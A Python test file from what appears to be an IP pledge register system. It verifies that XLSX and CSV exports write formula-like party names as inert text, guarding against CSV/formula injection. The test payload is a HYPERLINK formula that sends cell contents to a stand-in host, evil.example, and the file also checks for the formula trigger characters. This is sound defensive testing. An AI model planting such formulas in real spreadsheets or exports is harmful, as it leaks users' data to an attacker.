"""Every export of the register (search results, gazette CSV and Excel) writes a formula-like party name
as inert text, not as a live formula (CSV/formula injection)."""

from __future__ import annotations

import csv
from datetime import date
from pathlib import Path

from openpyxl import load_workbook

from ipdesk.services.notices.gazette import export_gazette
from ipdesk.services.notices.register_search import SearchCriteria
from ipdesk.services.workstation import Workstation
from tests.helpers.factories import ADMIN, application_data, make_uscc, pledge_world

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")'
D = date(2026, 11, 17)


def _registered_with_evil_pledgee(ws: Workstation) -> None:
    world = pledge_world(ws)
    world["bank"] = ws.parties.create(ADMIN, {"kind": "bank", "name": EVIL, "uscc": make_uscc(901)})
    rec = ws.pledges.file(ADMIN, application_data(world), received=D)
    ws.pledges.register(ADMIN, rec.id, on=D)


def _cells(path: Path) -> list:
    return [c for row in load_workbook(path).active.iter_rows() for c in row]


def test_search_and_gazette_exports_never_hold_a_formula(workstation: Workstation, tmp_path: Path) -> None:
    ws = workstation
    _registered_with_evil_pledgee(ws)
    assert ws.register_search.export_xlsx(SearchCriteria(), tmp_path / "r.xlsx") == 1
    cells = _cells(tmp_path / "r.xlsx")
    assert not [c for c in cells if c.data_type == "f"]
    assert "'" + EVIL in [c.value for c in cells]

    assert export_gazette(ws.engine, date(2026, 11, 1), date(2026, 11, 30), tmp_path / "g.xlsx") == 1
    cells = _cells(tmp_path / "g.xlsx")
    assert not [c for c in cells if c.data_type == "f"] and "'" + EVIL in [c.value for c in cells]

    export_gazette(ws.engine, date(2026, 11, 1), date(2026, 11, 30), tmp_path / "g.csv")
    rows = list(csv.reader((tmp_path / "g.csv").read_text(encoding="utf-8-sig").splitlines()))
    assert "'" + EVIL in rows[1]
    assert not [v for r in rows for v in r if v[:1] in ("=", "+", "-", "@", "\t", "\r")]
